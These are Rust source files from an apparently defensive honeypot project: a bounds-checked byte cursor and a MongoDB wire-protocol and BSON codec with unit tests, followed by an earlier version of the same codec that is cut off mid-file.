    /// Consume `n` bytes and return them.
    pub fn take(&mut self, n: usize) -> Result<&'a [u8], WireError> {
        let slice = self
            .pos
            .checked_add(n)
            .and_then(|end| self.buf.get(self.pos..end));
        match slice {
            Some(s) => {
                self.pos += n;
                Ok(s)
            }
            None => Err(self.err(WireErrorKind::Truncated {
                needed: n,
                available: self.remaining(),
            })),
        }
    }

    /// Consume and discard `n` bytes.
    pub fn skip(&mut self, n: usize) -> Result<(), WireError> {
        self.take(n).map(|_| ())
    }

    /// Consume everything that remains.
    pub fn rest(&mut self) -> &'a [u8] {
        let s = self.buf.get(self.pos..).unwrap_or(&[]);
        self.pos = self.buf.len();
        s
    }

    fn array<const N: usize>(&mut self) -> Result<[u8; N], WireError> {
        let s = self.take(N)?;
        match s.first_chunk::<N>() {
            Some(a) => Ok(*a),
            // Unreachable in practice (`take` returned exactly N bytes) but
            // handled totally rather than asserted.
            None => Err(self.err(WireErrorKind::Truncated {
                needed: N,
                available: s.len(),
            })),
        }
    }

    /// Consume one byte.
    pub fn u8(&mut self) -> Result<u8, WireError> {
        self.array::<1>().map(|[b]| b)
    }

    /// Consume a big-endian `u16`.
    pub fn u16_be(&mut self) -> Result<u16, WireError> {
        self.array::<2>().map(u16::from_be_bytes)
    }

    /// Consume a little-endian `u16`.
    pub fn u16_le(&mut self) -> Result<u16, WireError> {
        self.array::<2>().map(u16::from_le_bytes)
    }

    /// Consume a big-endian `u32`.
    pub fn u32_be(&mut self) -> Result<u32, WireError> {
        self.array::<4>().map(u32::from_be_bytes)
    }

    /// Consume a little-endian `u32`.
    pub fn u32_le(&mut self) -> Result<u32, WireError> {
        self.array::<4>().map(u32::from_le_bytes)
    }

    /// Consume a little-endian `i32`.
    pub fn i32_le(&mut self) -> Result<i32, WireError> {
        self.array::<4>().map(i32::from_le_bytes)
    }

    /// Consume a big-endian `i32`.
    pub fn i32_be(&mut self) -> Result<i32, WireError> {
        self.array::<4>().map(i32::from_be_bytes)
    }

    /// Consume a little-endian `i64`.
    pub fn i64_le(&mut self) -> Result<i64, WireError> {
        self.array::<8>().map(i64::from_le_bytes)
    }

    /// Consume a little-endian IEEE-754 `f64`.
    pub fn f64_le(&mut self) -> Result<f64, WireError> {
        self.array::<8>().map(f64::from_le_bytes)
    }

    /// Consume a NUL-terminated byte string (terminator consumed, not
    /// returned).
    pub fn cstring_bytes(&mut self) -> Result<&'a [u8], WireError> {
        let tail = self.buf.get(self.pos..).unwrap_or(&[]);
        match tail.iter().position(|&b| b == 0) {
            Some(nul) => {
                let s = self.take(nul)?;
                self.skip(1)?;
                Ok(s)
            }
            None => Err(self.err(WireErrorKind::Unterminated { what: "cstring" })),
        }
    }

    /// Consume a NUL-terminated string, replacing invalid UTF-8 (attackers
    /// send arbitrary bytes as credentials; we capture them lossily rather
    /// than reject the frame).
    pub fn cstring_lossy(&mut self) -> Result<String, WireError> {
        self.cstring_bytes()
            .map(|b| String::from_utf8_lossy(b).into_owned())
    }

    /// Validate an attacker-declared length against `max` and convert it to
    /// `usize`. Negative or oversized declarations are violations at the
    /// cursor's current offset.
    pub fn checked_len(&self, declared: i64, max: usize) -> Result<usize, WireError> {
        let ok = usize::try_from(declared).ok().filter(|&n| n <= max);
        ok.ok_or_else(|| {
            self.err(WireErrorKind::LengthOutOfRange {
                declared: u64::try_from(declared).unwrap_or(0),
                max: u64::try_from(max).unwrap_or(u64::MAX),
            })
        })
    }
}

/// Total `u32` → `usize` for decode-side length words. Saturates on
/// (hypothetical) 16-bit targets so an oversized value fails the caller's
/// range check instead of wrapping.
pub fn usize_from(v: u32) -> usize {
    usize::try_from(v).unwrap_or(usize::MAX)
}

/// Saturating `usize` → `u32` for encode-side length prefixes. Frames we
/// build ourselves are bounded far below 4 GiB; saturation keeps the encode
/// path total without a panic edge.
pub fn sat_u32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

/// Saturating `usize` → `i32` for BSON/Mongo length prefixes.
pub fn sat_i32(n: usize) -> i32 {
    i32::try_from(n).unwrap_or(i32::MAX)
}

/// Saturating `usize` → `u16` for TDS packet lengths.
pub fn sat_u16(n: usize) -> u16 {
    u16::try_from(n).unwrap_or(u16::MAX)
}

/// Saturating `usize` → `u8` for single-byte length prefixes.
pub fn sat_u8(n: usize) -> u8 {
    u8::try_from(n).unwrap_or(u8::MAX)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_track_offsets() {
        let data = [0x01, 0x02, 0x03, 0x04, 0x05, 0x06];
        let mut c = ByteCursor::new(&data, WireProtocol::Mongo);
        assert_eq!(c.u8().unwrap(), 0x01);
        assert_eq!(c.u16_be().unwrap(), 0x0203);
        assert_eq!(c.offset(), 3);
        assert_eq!(c.remaining(), 3);
        let err = c.u32_le().unwrap_err();
        assert_eq!(err.offset, 3);
        assert!(matches!(
            err.kind,
            WireErrorKind::Truncated {
                needed: 4,
                available: 3
            }
        ));
        // a failed read consumes nothing
        assert_eq!(c.remaining(), 3);
    }

    #[test]
    fn base_offset_is_reported() {
        let data = [0u8; 2];
        let mut c = ByteCursor::with_base(&data, WireProtocol::Tds, 8);
        c.skip(2).unwrap();
        assert_eq!(c.offset(), 10);
        assert_eq!(c.u8().unwrap_err().offset, 10);
    }

    #[test]
    fn cstring_reads() {
        let data = b"user\0pa\xffss\0trailing";
        let mut c = ByteCursor::new(data, WireProtocol::Pgwire);
        assert_eq!(c.cstring_lossy().unwrap(), "user");
        assert_eq!(c.cstring_lossy().unwrap(), "pa\u{fffd}ss");
        let err = c.cstring_lossy().unwrap_err();
        assert!(matches!(
            err.kind,
            WireErrorKind::Unterminated { what: "cstring" }
        ));
    }

    #[test]
    fn checked_len_bounds() {
        let c = ByteCursor::new(&[], WireProtocol::Bson);
        assert_eq!(c.checked_len(5, 10).unwrap(), 5);
        assert!(c.checked_len(-1, 10).is_err());
        assert!(c.checked_len(11, 10).is_err());
        assert_eq!(c.checked_len(0, 0).unwrap(), 0);
    }

    #[test]
    fn rest_and_empty() {
        let data = [1u8, 2, 3];
        let mut c = ByteCursor::new(&data, WireProtocol::Resp);
        c.u8().unwrap();
        assert_eq!(c.rest(), &[2, 3]);
        assert!(c.is_empty());
        assert_eq!(c.rest(), &[] as &[u8]);
    }

    #[test]
    fn saturating_conversions() {
        assert_eq!(sat_u32(7), 7);
        assert_eq!(sat_u32(usize::MAX), u32::MAX);
        assert_eq!(sat_i32(usize::MAX), i32::MAX);
        assert_eq!(sat_u16(70_000), u16::MAX);
        assert_eq!(sat_u8(300), u8::MAX);
    }
}
