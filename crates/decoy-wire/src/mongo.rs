//! MongoDB wire protocol and a from-scratch BSON codec.
//!
//! Supports `OP_MSG` (modern drivers and attack scripts), the legacy
//! `OP_QUERY`/`OP_REPLY` pair (used by scanners for `isMaster` probes), and
//! the BSON subset every observed interaction needs. The high-interaction
//! honeypot serves a real document store through these messages; the ransom
//! campaigns of §6.3 (Listings 7–8) are full `find` → `drop` → `insert`
//! round trips over this code.

// decoy-hot-path: file -- per-frame decode/encode, one call per wire message

pub mod bson;

use bson::Document;
use bytes::{Buf, BufMut, Bytes, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::cursor::{sat_i32, ByteCursor};
use decoy_net::error::{NetError, NetResult, WireError, WireErrorKind, WireProtocol};

/// Opcode: OP_REPLY (server → client, answers OP_QUERY).
pub const OP_REPLY: i32 = 1;
/// Opcode: OP_QUERY (legacy client request).
pub const OP_QUERY: i32 = 2004;
/// Opcode: OP_MSG (modern bidirectional message).
pub const OP_MSG: i32 = 2013;

/// Shorthand for a Mongo wire error at `offset`.
fn merr(offset: usize, kind: WireErrorKind) -> NetError {
    WireError::new(WireProtocol::Mongo, offset, kind).into()
}

/// A complete MongoDB wire message.
#[derive(Debug, Clone, PartialEq)]
pub struct MongoMessage {
    /// Client-chosen identifier, echoed in `response_to` of the reply.
    pub request_id: i32,
    /// Identifier of the request this answers (0 for requests).
    pub response_to: i32,
    /// The typed body.
    pub body: MongoBody,
}

/// Message body variants.
#[derive(Debug, Clone, PartialEq)]
pub enum MongoBody {
    /// `OP_MSG` with its kind-0 body document and any kind-1 sequences.
    Msg {
        /// Flag bits (bit 0 = checksum present, tolerated and ignored).
        flags: u32,
        /// The kind-0 section document (the command).
        doc: Document,
        /// kind-1 document sequences: `(identifier, documents)`.
        sequences: Vec<(String, Vec<Document>)>,
    },
    /// Legacy `OP_QUERY`.
    Query {
        /// Full collection namespace, e.g. `admin.$cmd`.
        collection: String,
        /// Documents to skip.
        skip: i32,
        /// Maximum documents to return.
        limit: i32,
        /// The query document.
        query: Document,
    },
    /// Legacy `OP_REPLY`.
    Reply {
        /// Cursor id (0 when exhausted).
        cursor_id: i64,
        /// Starting offset of this batch.
        starting_from: i32,
        /// Returned documents.
        documents: Vec<Document>,
    },
    /// Unrecognized opcode, payload preserved for logging.
    Unknown {
        /// The opcode observed.
        opcode: i32,
        /// Raw body bytes (a zero-copy view of the read buffer).
        bytes: Bytes,
    },
}

impl MongoMessage {
    /// An `OP_MSG` request carrying a command document.
    pub fn msg(request_id: i32, doc: Document) -> Self {
        MongoMessage {
            request_id,
            response_to: 0,
            body: MongoBody::Msg {
                flags: 0,
                doc,
                sequences: vec![],
            },
        }
    }

    /// An `OP_MSG` reply to `request`.
    pub fn msg_reply(request: &MongoMessage, doc: Document) -> Self {
        MongoMessage {
            request_id: request.request_id.wrapping_add(1),
            response_to: request.request_id,
            body: MongoBody::Msg {
                flags: 0,
                doc,
                sequences: vec![],
            },
        }
    }

    /// An `OP_REPLY` answering a legacy `OP_QUERY`.
    pub fn reply(request: &MongoMessage, documents: Vec<Document>) -> Self {
        MongoMessage {
            request_id: request.request_id.wrapping_add(1),
            response_to: request.request_id,
            body: MongoBody::Reply {
                cursor_id: 0,
                starting_from: 0,
                documents,
            },
        }
    }

    /// The command document, whichever opcode carried it.
    pub fn command_doc(&self) -> Option<&Document> {
        match &self.body {
            MongoBody::Msg { doc, .. } => Some(doc),
            MongoBody::Query { query, .. } => Some(query),
            _ => None,
        }
    }

    /// The command name: first key of the command document, lowercased
    /// (MongoDB command names are case-insensitive in practice for the
    /// handshake commands scanners send).
    pub fn command_name(&self) -> Option<String> {
        self.command_doc()
            .and_then(|d| d.keys().next().map(|k| k.to_lowercase()))
    }
}

/// Codec for MongoDB wire messages (both directions).
#[derive(Debug, Clone, Default)]
pub struct MongoCodec;

impl Codec for MongoCodec {
    type In = MongoMessage;
    type Out = MongoMessage;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<MongoMessage>> {
        let Some(header) = buf.first_chunk::<16>() else {
            return Ok(None);
        };
        let mut cur = ByteCursor::new(header, WireProtocol::Mongo);
        let declared = cur.i32_le()?;
        let request_id = cur.i32_le()?;
        let response_to = cur.i32_le()?;
        let opcode = cur.i32_le()?;
        let len = usize::try_from(declared)
            .ok()
            .filter(|&n| (16..=self.max_frame_len()).contains(&n))
            .ok_or_else(|| {
                merr(
                    0,
                    WireErrorKind::LengthOutOfRange {
                        declared: u64::try_from(declared).unwrap_or(0),
                        max: self.max_frame_len() as u64,
                    },
                )
            })?;
        if buf.len() < len {
            return Ok(None);
        }
        buf.advance(16);
        // Zero-copy: the body detaches as a shared view; `Unknown` keeps it
        // whole, the typed opcodes parse out of the borrow.
        let body_bytes = buf.split_to(len - 16).freeze();
        let body = parse_body(opcode, body_bytes)?;
        Ok(Some(MongoMessage {
            request_id,
            response_to,
            body,
        }))
    }

    fn encode(&mut self, frame: &MongoMessage, buf: &mut BytesMut) -> NetResult<()> {
        // Reserve the length and opcode words, encode the body directly
        // into `buf`, then patch — no staging buffer, no body copy.
        let start = buf.len();
        buf.put_i32_le(0); // messageLength, patched below
        buf.put_i32_le(frame.request_id);
        buf.put_i32_le(frame.response_to);
        let op_pos = buf.len();
        buf.put_i32_le(0); // opCode, patched below
        let opcode = encode_body(&frame.body, buf)?;
        let total = sat_i32(buf.len().saturating_sub(start));
        if let Some(slot) = buf.get_mut(start..start.saturating_add(4)) {
            slot.copy_from_slice(&total.to_le_bytes());
        }
        if let Some(slot) = buf.get_mut(op_pos..op_pos.saturating_add(4)) {
            slot.copy_from_slice(&opcode.to_le_bytes());
        }
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        crate::MAX_FRAME // MongoDB's maxMessageSizeBytes (48 MiB)
    }
}

/// Parse an `OP_MSG` body. `bytes` starts right after the 16-byte message
/// header, so absolute offsets in errors are `16 + relative`.
fn parse_op_msg(bytes: &[u8]) -> NetResult<MongoBody> {
    let Some(&flag_bytes) = bytes.first_chunk::<4>() else {
        return Err(merr(
            16,
            WireErrorKind::Truncated {
                needed: 4,
                available: bytes.len(),
            },
        ));
    };
    let flags = u32::from_le_bytes(flag_bytes);
    let mut rest = bytes.get(4..).unwrap_or_default();
    let mut at = 20usize; // absolute offset of `rest` within the message
    if flags & 0x1 != 0 {
        // Checksum present: trim the trailing CRC32C, which we tolerate
        // without verifying.
        let Some(keep) = rest.len().checked_sub(4) else {
            return Err(merr(
                at,
                WireErrorKind::Truncated {
                    needed: 4,
                    available: rest.len(),
                },
            ));
        };
        rest = rest.get(..keep).unwrap_or_default();
    }
    let mut doc = None;
    let mut sequences = vec![];
    while let Some((&kind, tail)) = rest.split_first() {
        at += 1;
        match kind {
            0 => {
                let (d, used) = bson::decode_document_at(tail, at)?;
                rest = tail.get(used..).unwrap_or_default();
                at += used;
                if doc.is_some() {
                    return Err(merr(
                        at,
                        WireErrorKind::Malformed {
                            detail: "duplicate kind-0 section",
                        },
                    ));
                }
                doc = Some(d);
            }
            1 => {
                let Some(&size_bytes) = tail.first_chunk::<4>() else {
                    return Err(merr(
                        at,
                        WireErrorKind::Truncated {
                            needed: 4,
                            available: tail.len(),
                        },
                    ));
                };
                let declared = i32::from_le_bytes(size_bytes);
                let size = usize::try_from(declared)
                    .ok()
                    .filter(|&n| n >= 4 && n <= tail.len())
                    .ok_or_else(|| {
                        merr(
                            at,
                            WireErrorKind::LengthOutOfRange {
                                declared: u64::try_from(declared).unwrap_or(0),
                                max: tail.len() as u64,
                            },
                        )
                    })?;
                let mut section = tail.get(4..size).unwrap_or_default();
                let mut section_at = at + 4;
                rest = tail.get(size..).unwrap_or_default();
                let nul = section.iter().position(|&b| b == 0).ok_or_else(|| {
                    merr(
                        section_at,
                        WireErrorKind::Unterminated {
                            what: "sequence identifier",
                        },
                    )
                })?;
                let identifier =
                    String::from_utf8_lossy(section.get(..nul).unwrap_or_default()).into_owned();
                section = section.get(nul + 1..).unwrap_or_default();
                section_at += nul + 1;
                let mut docs = vec![];
                while !section.is_empty() {
                    let (d, used) = bson::decode_document_at(section, section_at)?;
                    section = section.get(used..).unwrap_or_default();
                    section_at += used;
                    docs.push(d);
                }
                at += size;
                sequences.push((identifier, docs));
            }
            _ => {
                return Err(merr(
                    at - 1,
                    WireErrorKind::BadMagic {
                        what: "OP_MSG section kind",
                    },
                ))
            }
        }
    }
    let doc = doc.ok_or_else(|| {
        merr(
            16,
            WireErrorKind::Malformed {
                detail: "OP_MSG without kind-0 section",
            },
        )
    })?;
    Ok(MongoBody::Msg {
        flags,
        doc,
        sequences,
    })
}

fn parse_body(opcode: i32, bytes: Bytes) -> NetResult<MongoBody> {
    match opcode {
        OP_MSG => parse_op_msg(&bytes),
        OP_QUERY => {
            let mut cur = ByteCursor::with_base(&bytes, WireProtocol::Mongo, 16);
            cur.skip(4)?; // flags
            let collection = cur.cstring_lossy()?;
            let skip = cur.i32_le()?;
            let limit = cur.i32_le()?;
            let at = cur.offset();
            let (query, _used) = bson::decode_document_at(cur.rest(), at)?;
            Ok(MongoBody::Query {
                collection,
                skip,
                limit,
                query,
            })
        }
        OP_REPLY => {
            let mut cur = ByteCursor::with_base(&bytes, WireProtocol::Mongo, 16);
            cur.skip(4)?; // responseFlags
            let cursor_id = cur.i64_le()?;
            let starting_from = cur.i32_le()?;
            let n = cur.i32_le()?;
            let mut doc_at = cur.offset();
            let mut rest = cur.rest();
            let mut documents = vec![];
            for _ in 0..n.max(0) {
                let (d, used) = bson::decode_document_at(rest, doc_at)?;
                rest = rest.get(used..).unwrap_or_default();
                doc_at += used;
                documents.push(d);
            }
            Ok(MongoBody::Reply {
                cursor_id,
                starting_from,
                documents,
            })
        }
        other => Ok(MongoBody::Unknown {
            opcode: other,
            bytes,
        }),
    }
}

fn encode_body(body: &MongoBody, out: &mut BytesMut) -> NetResult<i32> {
    match body {
        MongoBody::Msg {
            flags,
            doc,
            sequences,
        } => {
            out.put_u32_le(flags & !0x1); // never emit checksums
            out.put_u8(0);
            bson::encode_document(doc, out);
            for (identifier, docs) in sequences {
                out.put_u8(1);
                let mut section = BytesMut::new();
                section.extend_from_slice(identifier.as_bytes());
                section.put_u8(0);
                for d in docs {
                    bson::encode_document(d, &mut section);
                }
                out.put_i32_le(sat_i32(section.len().saturating_add(4)));
                out.extend_from_slice(&section);
            }
            Ok(OP_MSG)
        }
        MongoBody::Query {
            collection,
            skip,
            limit,
            query,
        } => {
            out.put_i32_le(0); // flags
            out.extend_from_slice(collection.as_bytes());
            out.put_u8(0);
            out.put_i32_le(*skip);
            out.put_i32_le(*limit);
            bson::encode_document(query, out);
            Ok(OP_QUERY)
        }
        MongoBody::Reply {
            cursor_id,
            starting_from,
            documents,
        } => {
            out.put_i32_le(8); // responseFlags: AwaitCapable
            out.put_i64_le(*cursor_id);
            out.put_i32_le(*starting_from);
            out.put_i32_le(sat_i32(documents.len()));
            for d in documents {
                bson::encode_document(d, out);
            }
            Ok(OP_REPLY)
        }
        MongoBody::Unknown { opcode, bytes } => {
            out.extend_from_slice(bytes);
            Ok(*opcode)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::bson::{doc, Bson};
    use super::*;

    fn roundtrip(msg: MongoMessage) -> MongoMessage {
        let mut codec = MongoCodec;
        let mut buf = BytesMut::new();
        codec.encode(&msg, &mut buf).unwrap();
        let decoded = codec.decode(&mut buf).unwrap().unwrap();
        assert!(buf.is_empty());
        decoded
    }

    #[test]
    fn op_msg_roundtrip() {
        let msg = MongoMessage::msg(
            7,
            doc! { "find" => "customers", "$db" => "shop", "limit" => 100i32 },
        );
        let decoded = roundtrip(msg.clone());
        assert_eq!(decoded, msg);
        assert_eq!(decoded.command_name().as_deref(), Some("find"));
    }

    #[test]
    fn op_msg_with_sequences() {
        let msg = MongoMessage {
            request_id: 1,
            response_to: 0,
            body: MongoBody::Msg {
                flags: 0,
                doc: doc! { "insert" => "notes", "$db" => "ransom" },
                sequences: vec![(
                    "documents".into(),
                    vec![
                        doc! { "note" => "All your data is backed up." },
                        doc! { "btc" => 0.0058f64 },
                    ],
                )],
            },
        };
        assert_eq!(roundtrip(msg.clone()), msg);
    }

    #[test]
    fn legacy_ismaster_query_and_reply() {
        let query = MongoMessage {
            request_id: 42,
            response_to: 0,
            body: MongoBody::Query {
                collection: "admin.$cmd".into(),
                skip: 0,
                limit: -1,
                query: doc! { "isMaster" => 1i32 },
            },
        };
        let decoded = roundtrip(query.clone());
        assert_eq!(decoded, query);
        assert_eq!(decoded.command_name().as_deref(), Some("ismaster"));

        let reply = MongoMessage::reply(
            &query,
            vec![doc! { "ismaster" => true, "maxWireVersion" => 17i32, "ok" => 1.0f64 }],
        );
        let decoded = roundtrip(reply.clone());
        assert_eq!(decoded, reply);
        assert_eq!(decoded.response_to, 42);
    }

    #[test]
    fn checksum_flag_is_tolerated() {
        let msg = MongoMessage::msg(1, doc! { "ping" => 1i32 });
        let mut codec = MongoCodec;
        let mut buf = BytesMut::new();
        codec.encode(&msg, &mut buf).unwrap();
        // Rewrite as checksum-present: bump length by 4, set flag bit, append crc.
        let new_len = (buf.len() + 4) as i32;
        buf[0..4].copy_from_slice(&new_len.to_le_bytes());
        buf[16] |= 0x1;
        buf.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef]);
        let decoded = codec.decode(&mut buf).unwrap().unwrap();
        assert_eq!(decoded.command_name().as_deref(), Some("ping"));
    }

    #[test]
    fn unknown_opcode_is_preserved() {
        let msg = MongoMessage {
            request_id: 5,
            response_to: 0,
            body: MongoBody::Unknown {
                opcode: 2010,
                bytes: Bytes::from_static(&[1, 2, 3]),
            },
        };
        assert_eq!(roundtrip(msg.clone()), msg);
    }

    #[test]
    fn partial_messages_wait_for_more() {
        let msg = MongoMessage::msg(9, doc! { "listDatabases" => 1i32 });
        let mut codec = MongoCodec;
        let mut full = BytesMut::new();
        codec.encode(&msg, &mut full).unwrap();
        for cut in 1..full.len() {
            let mut partial = BytesMut::from(&full[..cut]);
            assert!(codec.decode(&mut partial).unwrap().is_none(), "cut {cut}");
            assert_eq!(partial.len(), cut);
        }
    }

    #[test]
    fn hostile_lengths_rejected() {
        let mut codec = MongoCodec;
        let mut buf = BytesMut::from(&(-5i32).to_le_bytes()[..]);
        buf.extend_from_slice(&[0u8; 12]);
        let err = codec.decode(&mut buf).unwrap_err();
        match err {
            NetError::Wire(w) => {
                assert_eq!(w.protocol, WireProtocol::Mongo);
                assert_eq!(w.offset, 0);
                assert!(matches!(w.kind, WireErrorKind::LengthOutOfRange { .. }));
            }
            other => panic!("expected wire error, got {other:?}"),
        }
        let mut buf = BytesMut::new();
        buf.put_i32_le(i32::MAX);
        buf.extend_from_slice(&[0u8; 12]);
        assert!(codec.decode(&mut buf).is_err());
    }

    #[test]
    fn command_name_of_reply_is_none() {
        let q = MongoMessage::msg(1, doc! { "ping" => 1i32 });
        let r = MongoMessage::reply(&q, vec![]);
        assert_eq!(r.command_name(), None);
        assert_eq!(Bson::from("x"), Bson::String("x".into()));
    }
}
