//! MongoDB wire protocol and a from-scratch BSON codec.
//!
//! Supports `OP_MSG` (modern drivers and attack scripts), the legacy
//! `OP_QUERY`/`OP_REPLY` pair (used by scanners for `isMaster` probes), and
//! the BSON subset every observed interaction needs. The high-interaction
//! honeypot serves a real document store through these messages; the ransom
//! campaigns of §6.3 (Listings 7–8) are full `find` → `drop` → `insert`
//! round trips over this code.

pub mod bson;

use bson::Document;
use bytes::{Buf, BufMut, BytesMut};
use decoy_net::codec::Codec;
use decoy_net::error::{NetError, NetResult};

/// Opcode: OP_REPLY (server → client, answers OP_QUERY).
pub const OP_REPLY: i32 = 1;
/// Opcode: OP_QUERY (legacy client request).
pub const OP_QUERY: i32 = 2004;
/// Opcode: OP_MSG (modern bidirectional message).
pub const OP_MSG: i32 = 2013;

/// A complete MongoDB wire message.
#[derive(Debug, Clone, PartialEq)]
pub struct MongoMessage {
    /// Client-chosen identifier, echoed in `response_to` of the reply.
    pub request_id: i32,
    /// Identifier of the request this answers (0 for requests).
    pub response_to: i32,
    /// The typed body.
    pub body: MongoBody,
}

/// Message body variants.
#[derive(Debug, Clone, PartialEq)]
pub enum MongoBody {
    /// `OP_MSG` with its kind-0 body document and any kind-1 sequences.
    Msg {
        /// Flag bits (bit 0 = checksum present, tolerated and ignored).
        flags: u32,
        /// The kind-0 section document (the command).
        doc: Document,
        /// kind-1 document sequences: `(identifier, documents)`.
        sequences: Vec<(String, Vec<Document>)>,
    },
    /// Legacy `OP_QUERY`.
    Query {
        /// Full collection namespace, e.g. `admin.$cmd`.
        collection: String,
        /// Documents to skip.
        skip: i32,
        /// Maximum documents to return.
        limit: i32,
        /// The query document.
        query: Document,
    },
    /// Legacy `OP_REPLY`.
    Reply {
        /// Cursor id (0 when exhausted).
        cursor_id: i64,
        /// Starting offset of this batch.
        starting_from: i32,
        /// Returned documents.
        documents: Vec<Document>,
    },
    /// Unrecognized opcode, payload preserved for logging.
    Unknown {
        /// The opcode observed.
        opcode: i32,
        /// Raw body bytes.
        bytes: Vec<u8>,
    },
}

impl MongoMessage {
    /// An `OP_MSG` request carrying a command document.
    pub fn msg(request_id: i32, doc: Document) -> Self {
        MongoMessage {
            request_id,
            response_to: 0,
            body: MongoBody::Msg {
                flags: 0,
                doc,
                sequences: Vec::new(),
            },
        }
    }

    /// An `OP_MSG` reply to `request`.
    pub fn msg_reply(request: &MongoMessage, doc: Document) -> Self {
        MongoMessage {
            request_id: request.request_id.wrapping_add(1),
            response_to: request.request_id,
            body: MongoBody::Msg {
                flags: 0,
                doc,
                sequences: Vec::new(),
            },
        }
    }

    /// An `OP_REPLY` answering a legacy `OP_QUERY`.
    pub fn reply(request: &MongoMessage, documents: Vec<Document>) -> Self {
        MongoMessage {
            request_id: request.request_id.wrapping_add(1),
            response_to: request.request_id,
            body: MongoBody::Reply {
                cursor_id: 0,
                starting_from: 0,
                documents,
            },
        }
    }

    /// The command document, whichever opcode carried it.
    pub fn command_doc(&self) -> Option<&Document> {
        match &self.body {
            MongoBody::Msg { doc, .. } => Some(doc),
            MongoBody::Query { query, .. } => Some(query),
            _ => None,
        }
    }

    /// The command name: first key of the command document, lowercased
    /// (MongoDB command names are case-insensitive in practice for the
    /// handshake commands scanners send).
    pub fn command_name(&self) -> Option<String> {
        self.command_doc()
            .and_then(|d| d.keys().next().map(|k| k.to_lowercase()))
    }
}

/// Codec for MongoDB wire messages (both directions).
#[derive(Debug, Clone, Default)]
pub struct MongoCodec;

impl Codec for MongoCodec {
    type In = MongoMessage;
    type Out = MongoMessage;

    fn decode(&mut self, buf: &mut BytesMut) -> NetResult<Option<MongoMessage>> {
        if buf.len() < 16 {
            return Ok(None);
        }
        let len = i32::from_le_bytes([buf[0], buf[1], buf[2], buf[3]]);
        if len < 16 || len as usize > self.max_frame_len() {
            return Err(NetError::protocol(format!("mongo message length {len}")));
        }
        let len = len as usize;
        if buf.len() < len {
            return Ok(None);
        }
        let request_id = i32::from_le_bytes([buf[4], buf[5], buf[6], buf[7]]);
        let response_to = i32::from_le_bytes([buf[8], buf[9], buf[10], buf[11]]);
        let opcode = i32::from_le_bytes([buf[12], buf[13], buf[14], buf[15]]);
        buf.advance(16);
        let body_bytes = buf.split_to(len - 16);
        let body = parse_body(opcode, &body_bytes)?;
        Ok(Some(MongoMessage {
            request_id,
            response_to,
            body,
        }))
    }

    fn encode(&mut self, frame: &MongoMessage, buf: &mut BytesMut) -> NetResult<()> {
        let mut body = BytesMut::new();
        let opcode = encode_body(&frame.body, &mut body)?;
        buf.put_i32_le(16 + body.len() as i32);
        buf.put_i32_le(frame.request_id);
        buf.put_i32_le(frame.response_to);
        buf.put_i32_le(opcode);
        buf.extend_from_slice(&body);
        Ok(())
    }

    fn max_frame_len(&self) -> usize {
        48 << 20 // MongoDB's maxMessageSizeBytes
    }
}

fn get_cstring(rest: &mut &[u8]) -> NetResult<String> {
    let pos = rest
        .iter()
        .position(|&b| b == 0)
        .ok_or_else(|| NetError::protocol("unterminated cstring"))?;
    let s = String::from_utf8_lossy(&rest[..pos]).into_owned();
    *rest = &rest[pos + 1..];
    Ok(s)
}

fn parse_body(opcode: i32, bytes: &[u8]) -> NetResult<MongoBody> {
    match opcode {
        OP_MSG => {
            if bytes.len() < 4 {
                return Err(NetError::protocol("short OP_MSG"));
            }
            let flags = u32::from_le_bytes([bytes[0], bytes[1], bytes[2], bytes[3]]);
            let checksum_present = flags & 0x1 != 0;
            let mut rest = &bytes[4..];
            if checksum_present {
                if rest.len() < 4 {
                    return Err(NetError::protocol("OP_MSG missing checksum"));
                }
                rest = &rest[..rest.len() - 4];
            }
            let mut doc = None;
            let mut sequences = Vec::new();
            while !rest.is_empty() {
                let kind = rest[0];
                rest = &rest[1..];
                match kind {
                    0 => {
                        let (d, used) = bson::decode_document(rest)?;
                        rest = &rest[used..];
                        if doc.is_some() {
                            return Err(NetError::protocol("duplicate kind-0 section"));
                        }
                        doc = Some(d);
                    }
                    1 => {
                        if rest.len() < 4 {
                            return Err(NetError::protocol("short kind-1 section"));
                        }
                        let size =
                            i32::from_le_bytes([rest[0], rest[1], rest[2], rest[3]]) as usize;
                        if size < 4 || size > rest.len() {
                            return Err(NetError::protocol("kind-1 size overruns"));
                        }
                        let mut section = &rest[4..size];
                        rest = &rest[size..];
                        let identifier = get_cstring(&mut section)?;
                        let mut docs = Vec::new();
                        while !section.is_empty() {
                            let (d, used) = bson::decode_document(section)?;
                            section = &section[used..];
                            docs.push(d);
                        }
                        sequences.push((identifier, docs));
                    }
                    other => {
                        return Err(NetError::protocol(format!(
                            "unknown OP_MSG section kind {other}"
                        )))
                    }
                }
            }
            let doc = doc.ok_or_else(|| NetError::protocol("OP_MSG without kind-0 section"))?;
            Ok(MongoBody::Msg {
                flags,
                doc,
                sequences,
            })
        }
        OP_QUERY => {
            if bytes.len() < 4 {
                return Err(NetError::protocol("short OP_QUERY"));
            }
            let mut rest = &bytes[4..]; // skip flags
            let collection = get_cstring(&mut rest)?;
            if rest.len() < 8 {
                return Err(NetError::protocol("OP_QUERY missing skip/limit"));
            }
            let skip = i32::from_le_bytes([rest[0], rest[1], rest[2], rest[3]]);
            let limit = i32::from_le_bytes([rest[4], rest[5], rest[6], rest[7]]);
            rest = &rest[8..];
            let (query, _used) = bson::decode_document(rest)?;
            Ok(MongoBody::Query {
                collection,
                skip,
                limit,
                query,
            })
        }
        OP_REPLY => {
            if bytes.len() < 20 {
                return Err(NetError::protocol("short OP_REPLY"));
            }
            let cursor_id = i64::from_le_bytes(bytes[4..12].try_into().unwrap());
            let starting_from = i32::from_le_bytes(bytes[12..16].try_into().unwrap());
            let n = i32::from_le_bytes(bytes[16..20].try_into().unwrap());
            let mut rest = &bytes[20..];
            let mut documents = Vec::new();
            for _ in 0..n.max(0) {
                let (d, used) = bson::decode_document(rest)?;
                rest = &rest[used..];
                documents.push(d);
            }
            Ok(MongoBody::Reply {
                cursor_id,
                starting_from,
                documents,
            })
        }
        other => Ok(MongoBody::Unknown {
            opcode: other,
            bytes: bytes.to_vec(),
        }),
    }
}

fn encode_body(body: &MongoBody, out: &mut BytesMut) -> NetResult<i32> {
